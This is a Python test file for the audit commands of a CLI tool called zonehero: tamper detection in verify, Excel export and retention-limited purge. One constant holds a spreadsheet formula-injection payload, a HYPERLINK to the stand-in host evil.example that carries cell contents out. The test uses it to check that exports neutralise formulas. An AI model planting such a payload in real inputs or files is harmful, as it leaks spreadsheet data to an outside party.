"""zonehero audit verify / export / purge on a store of each backend: verify exits 0 on an intact log and 1 naming
the first bad entry after tampering; export writes text cells only; purge refuses the retention period."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import audit_tamper
import openpyxl
import pytest
from pg_server import start_postgres
from sqlalchemy import Engine, create_engine, select, text
from typer.testing import CliRunner

from zonehero import clock
from zonehero.db import migrate
from zonehero.db.session import make_engine, session_factory, unit_of_work
from zonehero.edges.cli.main import app
from zonehero.features.audit import service as audit
from zonehero.features.audit.models import AuditEntry
from zonehero.features.audit.origin import current_origin
from zonehero.features.roles import Actor, Role

runner = CliRunner()
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture(scope="module")
def server(request: pytest.FixtureRequest) -> str:
    return start_postgres(request)


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def empty_store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[str, Engine]]:
    """A migrated store of its own (the commands commit), and an engine on it."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'zonehero.db'}"
    else:
        base: str = request.getfixturevalue("server")
        name = f"cli_{uuid.uuid4().hex[:12]}"
        admin = create_engine(base, isolation_level="AUTOCOMMIT")
        with admin.connect() as conn:
            conn.execute(text(f"CREATE DATABASE {name}"))
        admin.dispose()
        url = base.rsplit("/", 1)[0] + f"/{name}"
    migrate.upgrade(url)
    engine = make_engine(url)
    yield url, engine
    engine.dispose()


@pytest.fixture
def store(empty_store: tuple[str, Engine]) -> tuple[str, Engine]:
    """The store with five entries: a log-in attempt under a formula-like name, four log-outs."""
    url, engine = empty_store
    with unit_of_work(session_factory(engine)) as session:
        intruder = Actor(id=None, username=INJECTION, role=Role.LEADER)
        audit.record(session, intruder, "login.failed", "user", None, after={"reason": "unknown_user"})
        for n in range(4):
            audit.record(session, Actor(id=1, username="sysadmin", role=Role.SYSTEM_ADMIN), "logout", "user", n)
    return url, engine


def _ids(engine: Engine) -> list[int]:
    with engine.connect() as conn:
        return list(conn.execute(select(AuditEntry.id).order_by(AuditEntry.id)).scalars())


def test_verify_passes_on_an_intact_log(store: tuple[str, Engine]) -> None:
    url, _ = store
    done = runner.invoke(app, ["audit", "verify", "--db", url])
    assert done.exit_code == 0, done.output
    assert "审计日志完整" in done.output and "已校验 5 条" in done.output


@pytest.mark.parametrize("tamper", ["edit", "delete", "swap"])
def test_verify_fails_naming_the_first_bad_entry(store: tuple[str, Engine], tamper: str) -> None:
    url, engine = store
    ids = _ids(engine)
    with engine.begin() as conn:
        audit_tamper.drop_triggers(conn)
        if tamper == "edit":
            audit_tamper.edit(conn, ids[1])
        elif tamper == "delete":
            audit_tamper.delete(conn, ids[1])
        else:
            audit_tamper.swap(conn, ids[1], ids[2])
    done = runner.invoke(app, ["audit", "verify", "--db", url])
    assert done.exit_code == 1, done.output
    expected = ids[2] if tamper == "delete" else ids[1]
    assert f"first bad entry: {expected}" in done.output


def test_export_writes_the_period_as_text_and_is_audited(store: tuple[str, Engine], tmp_path: Path) -> None:
    url, engine = store
    out = tmp_path / "audit.xlsx"
    today = clock.today().isoformat()  # the zone's date: the export period is in the zone's days, not UTC's
    done = runner.invoke(app, ["audit", "export", "--from", today, "--to", today, "--out", str(out), "--db", url])
    assert done.exit_code == 0, done.output
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    values = [c.value for c in cells]
    # The typed text arrives as text, behind the apostrophe every export puts before a would-be formula.
    assert "'" + INJECTION in values and "登录失败" in values and "退出登录" in values
    assert sheet.max_row == 2 + 5  # title, header, five entries
    with engine.connect() as conn:
        exported = conn.execute(select(AuditEntry).where(AuditEntry.action == "audit.export")).one()
    assert exported.after["entries"] == 5 and exported.origin.startswith("cli:")
    assert current_origin() is None  # the command's origin ended with it


def test_purge_refuses_a_day_inside_the_retention_period(store: tuple[str, Engine]) -> None:
    url, engine = store
    recent = (date.today() - timedelta(days=30)).isoformat()
    done = runner.invoke(app, ["audit", "purge", "--before", recent, "--yes", "--db", url])
    assert done.exit_code == 1
    assert "至少保留 180 天" in done.output
    assert len(_ids(engine)) == 5


def test_purge_removes_old_entries_and_verify_still_passes(empty_store: tuple[str, Engine]) -> None:
    url, engine = empty_store
    admin = Actor(id=1, username="sysadmin", role=Role.SYSTEM_ADMIN)
    previous = clock.current()
    clock.use(clock.FixedClock(datetime.now(UTC) - timedelta(days=500)))
    try:
        with unit_of_work(session_factory(engine)) as session:
            for n in range(3):
                audit.record(session, admin, "logout", "user", n)
    finally:
        clock.use(previous)
    with unit_of_work(session_factory(engine)) as session:
        audit.record(session, admin, "logout", "user", 99)
    before = (date.today() - timedelta(days=200)).isoformat()
    done = runner.invoke(app, ["audit", "purge", "--before", before, "--yes", "--db", url])
    assert done.exit_code == 0, done.output
    assert "已清理 3 条记录" in done.output
    assert len(_ids(engine)) == 2  # the recent entry and the purge's checkpoint
    check = runner.invoke(app, ["audit", "verify", "--db", url])
    assert check.exit_code == 0, check.output
    assert "清理锚点" in check.output
